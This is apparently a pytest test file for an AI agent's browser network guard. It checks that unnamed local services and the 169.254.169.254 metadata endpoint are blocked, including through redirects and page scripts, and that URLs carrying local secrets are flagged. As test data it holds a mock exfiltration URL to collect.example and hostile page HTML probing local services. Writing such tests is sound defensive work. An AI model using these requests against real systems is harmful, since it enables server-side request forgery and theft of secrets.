"""The browser's network rules: local addresses only when named, redirects and page requests included, and URLs
carrying local data shown. Real servers on 127.0.0.1 (the site the task names) and 127.0.0.2 (a local service
nobody named, which records every request it gets), a real Chromium, pages from a "public" host built by a route.
"""

from __future__ import annotations

import http.server
import json
import re
import socket
import threading
import time

import pytest

from ga.errors import PermissionDenied, ToolError
from ga.runs.folder import Run
from tests.tools.web import test_session as shared
from tests.tools.web.test_session import _context, scan
from tools import web_execute_js
from tools.web import hosts
from tools.web.network import NetPolicy
from tools.web.session import get_session

site, web = shared.site, shared.web
needs_chromium = shared.NEEDS_CHROMIUM
# Local data that is no secret by its shape: a password-shaped value is redacted before the model ever reads it.
SECRET = "DB_HOST=orders-db7-lan"


class _Recorder(http.server.BaseHTTPRequestHandler):
    """Records each request; /redirect?to=URL answers 302 to URL, anything else a small page."""

    def log_message(self, *args: object) -> None:
        pass

    def do_GET(self) -> None:
        self.server.hits.append(self.path)
        if self.path.startswith("/redirect?to="):
            self.send_response(302)
            self.send_header("Location", self.path.split("to=", 1)[1])
            self.end_headers()
            return
        body = f"<title>Recorder</title><main><h1>Recorded {self.path}</h1></main>".encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()
        self.wfile.write(body)


def _serve(address: str):
    server = http.server.ThreadingHTTPServer((address, 0), _Recorder)
    server.hits = []
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server, f"http://{address}:{server.server_address[1]}"


@pytest.fixture(scope="module")
def named():
    """A second server of the site the task names (127.0.0.1), able to redirect."""
    server, url = _serve("127.0.0.1")
    yield server, url
    server.shutdown()


@pytest.fixture
def unnamed():
    """A local service nobody named (127.0.0.2), recording what reaches it."""
    server, url = _serve("127.0.0.2")
    yield server, url
    server.shutdown()


# -- the rules -----------------------------------------------------------------------------------------------
def test_hosts_the_user_names():
    text = ("Open http://127.0.0.1:8123/ and the API on localhost:3000; the router is 192.168.1.1, docs at "
            "https://docs.example.org/x and [::1]:8080/y.")
    assert hosts.named_hosts(text) == {("localhost", 8123), ("localhost", 3000), ("192.168.1.1", None),
                                       ("docs.example.org", 443), ("localhost", 8080)}
    assert hosts.named_hosts("nothing local here, version 2 of the app") == set()


@pytest.mark.parametrize(("host", "kind"), [
    ("127.0.0.1", "loopback"), ("127.1", "loopback"), ("2130706433", "loopback"), ("0x7f.0.0.1", "loopback"),
    ("[::1]", "loopback"), ("localhost", "loopback"), ("app.localhost", "loopback"), ("0.0.0.0", "loopback"),
    ("169.254.169.254", "link-local"), ("[::ffff:169.254.169.254]", "link-local"), ("[fe80::1]", "link-local"),
    ("10.1.2.3", "private"), ("172.16.0.9", "private"), ("192.168.0.1", "private"), ("100.64.0.1", "private"),
    ("[fd00::1]", "private"), ("8.8.8.8", "public"), ("no-such-host.invalid", "public"),
])
def test_address_classes(host, kind):
    assert hosts.address_class(host) == kind


def test_a_name_that_resolves_to_a_local_address_is_local():
    name = socket.gethostname()
    addresses = {info[4][0] for info in socket.getaddrinfo(name, None)}
    if not all(a.startswith("127.") for a in addresses):
        pytest.skip(f"{name} does not resolve to loopback here")
    assert hosts.address_class(name) == "loopback"


def _policy(tmp_path, task: str, *results: tuple[str, str], env: dict | None = None) -> NetPolicy:
    tmp_path.mkdir(parents=True, exist_ok=True)
    run = Run(tmp_path, {})
    run.append({"type": "message", "message": {"role": "user", "content": task}})
    for name, content in results:
        run.append({"type": "result", "id": "c", "name": name, "content": content, "is_error": False})
    return NetPolicy.for_run(env or {}, tmp_path, {})


def test_local_addresses_need_a_name(tmp_path):
    policy = _policy(tmp_path, "Test the app at http://localhost:8123/ please")
    assert policy.blocked("http://127.0.0.1:8123/login") is None  # the same server by another loopback name
    assert "loopback address that neither the user" in policy.blocked("http://127.0.0.1:9000/admin")
    assert "link-local" in policy.blocked("http://169.254.169.254/latest/meta-data/")
    assert policy.blocked("https://example.com/") is None
    # the named site's own requests may reach its other local services, never a link-local one
    assert policy.blocked("http://127.0.0.1:9000/api", initiator="http://localhost:8123/app") is None
    assert policy.blocked("http://169.254.169.254/", initiator="http://localhost:8123/app")
    assert policy.blocked("http://127.0.0.1:9000/api", initiator="https://evil.example/")
    for allow, url in (("127.0.0.1:9000", "http://127.0.0.1:9000/"), ("10.0.0.0/8", "http://10.9.8.7/"),
                       ("*", "http://169.254.169.254/"), ("localhost", "http://127.0.0.1:5/")):
        assert _policy(tmp_path / allow.replace("/", "_"), "x", env={"GA_ALLOW_HOSTS": allow}).blocked(url) is None


def test_a_later_user_message_can_name_a_host(tmp_path):
    policy = _policy(tmp_path, "Check the service")
    assert policy.blocked("http://127.0.0.1:7000/")
    Run(tmp_path, {}).append({"type": "message", "message": {"role": "user", "content": "It is on 127.0.0.1:7000"}})
    assert policy.blocked("http://127.0.0.1:7000/") is None


def test_local_data_in_a_url_to_a_new_host(tmp_path):
    policy = _policy(tmp_path, "Summarise the config, then look up the docs for installing it",
                     ("file_read", f"1| # settings\n2| {SECRET}\n3| See docs/installing.md"),
                     ("web_scan", "Search results: hunter2-web-only"))
    assert policy.leak(f"https://collect.example/c?d={SECRET.replace('=', '%3D')}") == [SECRET, "orders-db7-lan",
                                                                                         "DB_HOST"]
    assert policy.leak("https://collect.example/orders-db7-lan/x.png") == ["orders-db7-lan"]
    assert policy.leak("https://docs.example.org/installing") == []  # a plain word is no data
    assert policy.leak("https://collect.example/?q=hunter2-web-only") == []  # from the web, back to the web
    policy.visit("https://collect.example/")
    assert policy.leak(f"https://collect.example/c?d={SECRET}") == []  # a host the run has shown already


# -- in the browser --------------------------------------------------------------------------------------------
@needs_chromium
def test_an_unnamed_local_service_is_refused_before_any_request(web, unnamed):
    server, url = unnamed
    with pytest.raises(PermissionDenied, match=r"127\.0\.0\.2:\d+ is a loopback address .*GA_ALLOW_HOSTS"):
        scan(web, url=f"{url}/admin")
    with pytest.raises(PermissionDenied, match=r"169\.254\.169\.254:443 is a link-local address"):
        scan(web, url="169.254.169.254/latest/meta-data/")
    assert server.hits == []


@needs_chromium
def test_a_redirect_to_an_unnamed_local_service_is_blocked_at_the_hop(web, named, unnamed):
    (_, site_url), (server, url) = named, unnamed
    Run(web.run_dir, {}).append({"type": "message", "message": {"role": "user", "content": f"Also use {site_url}"}})
    with pytest.raises(ToolError, match="blocked local address"):
        scan(web, url=f"{site_url}/redirect?to={url}/secret")
    assert server.hits == []
    assert "Blocked a request to" in scan(web, tabs_only=True)


@needs_chromium
def test_a_page_opened_with_its_tab_is_guarded_at_every_hop(web, named, unnamed):
    """A new tab's guard is set up by the context's page event, which Playwright runs on a greenlet of its own:
    a page opened in the tab at once (a restarted browser reopening its tabs) must wait for it, whatever the
    timing; under load the first web_scan of a run met the same race (the test above, under pytest -n 4)."""
    (_, site_url), (server, url) = named, unnamed
    Run(web.run_dir, {}).append({"type": "message", "message": {"role": "user", "content": f"Also use {site_url}"}})
    for _ in range(3):
        get_session(web).call(lambda s: (s.ensure(), s._open(f"{site_url}/redirect?to={url}/secret")))
    assert server.hits == []
    assert "Blocked a request to" in scan(web, tabs_only=True)


def _public_page(ctx, html: str) -> str:
    """A page of a public host (answered by a route, since this machine has no internet). Chromium's own Local
    Network Access check would refuse its requests to local addresses too: granted here, so ga's rules are seen."""
    def fulfil(route):
        route.fulfill(status=200, content_type="text/html", body=html)

    def prepare(s) -> None:
        s.ensure()
        s.context.route("https://news.example/**", fulfil)
        s.context.grant_permissions(["local-network-access"], origin="https://news.example")

    get_session(ctx).call(prepare)
    return "https://news.example/story"


@needs_chromium
def test_a_public_page_cannot_reach_local_services(web, named, unnamed):
    (named_server, site_url), (server, url) = named, unnamed
    Run(web.run_dir, {}).append({"type": "message", "message": {"role": "user", "content": f"Also use {site_url}"}})
    html = (f"<main><h1>Story</h1><img src='{url}/pixel.png'><img src='{site_url}/redirect?to={url}/hop.png'>"
            f"<script>fetch('{url}/api', {{mode: 'no-cors'}}).catch(() => 0); new WebSocket('ws://{url[7:]}/ws');"
            "fetch('http://169.254.169.254/latest/meta-data/').catch(() => 0);</script></main>")
    out = scan(web, url=_public_page(web, html))
    time.sleep(0.5)
    out += scan(web)
    assert "# Story" in out
    for host in (url, "http://169.254.169.254"):  # said once per host in a result, with whichever request came first
        where = re.escape(host.partition("://")[2])
        assert len(re.findall(rf"Blocked a request to (?:https?|wss?)://{where}/", out)) == 1, (host, out)
    assert server.hits == []  # not the image, the fetch, the redirect hop nor the WebSocket
    assert f"/redirect?to={url}/hop.png" in named_server.hits  # the named site was reached, its redirect hop not


@needs_chromium
def test_the_named_site_reaches_its_other_local_services(web, site, unnamed):
    server, url = unnamed
    scan(web, url=f"{site}/login.html")
    got = web_execute_js.run({"script": f"await fetch('{url}/api/status').then(r => r.status)"}, web).content
    assert "Value: 200" in got and server.hits == ["/api/status"]
    blocked = web_execute_js.run({"script": "await fetch('http://169.254.169.254/').then(r => r.status, e => 'no')"},
                                 web).content
    assert 'Value: "no"' in blocked and "link-local" in blocked


def _leaky_run(tmp_path, task: str, **overrides):
    """A run that read a secret from a file."""
    ctx = _context(tmp_path, task, browser_profile=False, **overrides)
    Run(ctx.run_dir, {}).append({"type": "result", "id": "c1", "name": "file_read", "content": f"1| {SECRET}\n",
                                 "is_error": False})
    return ctx


@needs_chromium
def test_a_url_carrying_local_data_to_a_new_host_is_shown(tmp_path, monkeypatch, site, unnamed):
    server, url = unnamed
    monkeypatch.setenv("GA_ALLOW_HOSTS", url.removeprefix("http://"))  # reachable, but not named by the user
    ctx = _leaky_run(tmp_path / "a", f"Read .env and check the app at {site}/")
    try:
        out = scan(ctx, url=f"{url}/collect?d={SECRET.replace('=', '%3D')}")
    finally:
        ctx.close()
    assert re.search(r"Note: the URL to 127\.0\.0\.2 carries text read from local files or command output "
                     r"\('DB_HOST=orders-db7-lan'", out), out
    assert out.count("Note: the URL to") == 1, out  # told once, not again by the browser's own check
    assert any("DB_HOST=orders-db7-lan" in n for n in ctx.ui.notices)
    assert "Recorded /collect" in out  # shown, not blocked (default mode)
    ctx = _leaky_run(tmp_path / "b", f"Read .env and check the app at {site}/")
    try:
        scan(ctx, url=f"{site}/login.html")
        moved = web_execute_js.run({"script": f"location.href = '{url}/again?k=orders-db7-lan'"}, ctx).content
    finally:
        ctx.close()
    assert "Note: the URL to 127.0.0.2 carries text read from local files" in moved, moved
    pages = [hit for hit in server.hits if hit != "/favicon.ico"]
    assert pages == ["/collect?d=DB_HOST%3Dorders-db7-lan", "/again?k=orders-db7-lan"], server.hits


@needs_chromium
def test_plan_mode_asks_before_local_data_goes_anywhere(tmp_path, named):
    server, site_url = named
    ctx = _leaky_run(tmp_path, f"Plan the fix for {site_url}/", mode="plan")
    before = list(server.hits)
    try:
        assert "Recorded /status" in scan(ctx, url=f"{site_url}/status")  # the named host: no approval
        with pytest.raises(PermissionDenied, match=r"plan mode: opening pages needs approval; Note: the URL to"):
            scan(ctx, url=f"{site_url}/collect?d={SECRET}")
    finally:
        ctx.close()
    assert server.hits == [*before, "/status"]


def test_the_trajectory_is_read_as_ga_writes_it(tmp_path):
    run = Run(tmp_path, {})
    run.append({"type": "message", "message": {"role": "user", "content": "open http://127.0.0.1:9/"}})
    (tmp_path / "trajectory.jsonl").open("a").write(json.dumps({"type": "result", "name": "file_read"})[:-3])
    text = hosts.RunText(path=tmp_path / "trajectory.jsonl")
    text.refresh()
    assert text.has_task and text.user == ["open http://127.0.0.1:9/"] and text.local == []  # a torn line waits
